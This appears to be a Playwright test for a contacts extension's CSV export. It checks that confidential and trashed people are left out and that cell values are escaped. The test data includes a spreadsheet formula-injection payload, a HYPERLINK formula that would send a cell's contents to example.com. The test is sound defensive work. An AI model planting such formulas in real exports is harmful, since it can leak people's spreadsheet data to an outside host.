/** The people as a table for a spreadsheet, saved from the built extension. */
import { readFile } from 'node:fs/promises';
import type { Page } from '@playwright/test';
import Papa from 'papaparse';
import { dayFrom, logCall } from './dashboard-steps';
import { keepNote } from './panel-steps';
import { sendCommand } from './support/commands';
import { expect, test } from './support/extension';

async function keep(page: Page, name: string, fields: object = {}): Promise<string> {
  const personId = crypto.randomUUID();
  const key = `vanity:${name.toLowerCase().replaceAll(' ', '-')}` as const;
  await sendCommand(page, 'person.add', {
    who: { personId, create: { name, keys: [key], seen: null } },
  });
  await sendCommand(page, 'person.change', { who: { personId }, fields });
  return personId;
}

async function saveTable(page: Page): Promise<string> {
  const download = page.waitForEvent('download');
  await page.getByRole('button', { name: 'Save a spreadsheet' }).click();
  const file = await download;
  expect(file.suggestedFilename()).toMatch(/^confidant-people-\d{4}-\d{2}-\d{2}\.csv$/);
  return readFile(await file.path(), 'utf8');
}

const rowsOf = (file: string) =>
  Papa.parse<Record<string, string>>(file.replace('\uFEFF', ''), {
    header: true,
    skipEmptyLines: true,
  }).data;

test('the people are saved as a table, without the confidential, the trash and formulas', async ({
  open,
}) => {
  const page = await open('options.html#/backup');
  const ada = await keep(page, 'Ada Quill', {
    headline: '=HYPERLINK("https://example.com/?"&A1)',
    company: 'Quill & Sons; @home',
    tags: ['harbour', 'tea'],
    howMet: '- at the harbour\n- on a boat',
    rhythmDays: 30,
  });
  await logCall(page, ada, dayFrom(-3));
  await keepNote(page, ada, 'Likes *long* walks');
  const secret = await keepNote(page, ada, 'Thinks of leaving', '2026-02-15');
  await sendCommand(page, 'note.setConfidential', {
    noteId: secret,
    baseRevision: 1,
    confidential: true,
  });
  await keep(page, 'Greta Hollow', { confidential: true });
  const gone = await keep(page, 'Ben Orrin');
  await sendCommand(page, 'trash.put', { table: 'people', id: gone });
  await page.reload();
  await expect(page.getByText('cannot be brought back')).toBeVisible();

  const file = await saveTable(page);
  expect(file.startsWith('\uFEFF"Name","Headline","Company","Relationships",')).toBe(true);
  expect(file.split('\r\n')).toHaveLength(3);
  expect(rowsOf(file)).toEqual([
    {
      Name: 'Ada Quill',
      Headline: '\'=HYPERLINK("https://example.com/?"&A1)',
      Company: "Quill & Sons; '@home",
      Relationships: '',
      Tags: 'harbour, tea',
      State: 'In rhythm',
      'Rhythm (days)': '30',
      'Last contact': dayFrom(-3),
      'Next due': dayFrom(27),
      'How you met': "'- at the harbour - on a boat",
      Note: 'Likes *long* walks',
      'Connected on': '',
      LinkedIn: 'https://www.linkedin.com/in/ada-quill/',
    },
  ]);
  await expect(page.getByText(/confidant-people-.*with one person/)).toBeVisible();
  await expect(page.getByText('No backup yet.')).toBeVisible();

  await page.getByRole('checkbox', { name: 'Include what is confidential' }).check();
  const all = rowsOf(await saveTable(page));
  expect(all.map(({ Name, Note }) => [Name, Note])).toEqual([
    ['Ada Quill', 'Thinks of leaving'],
    ['Greta Hollow', ''],
  ]);
});
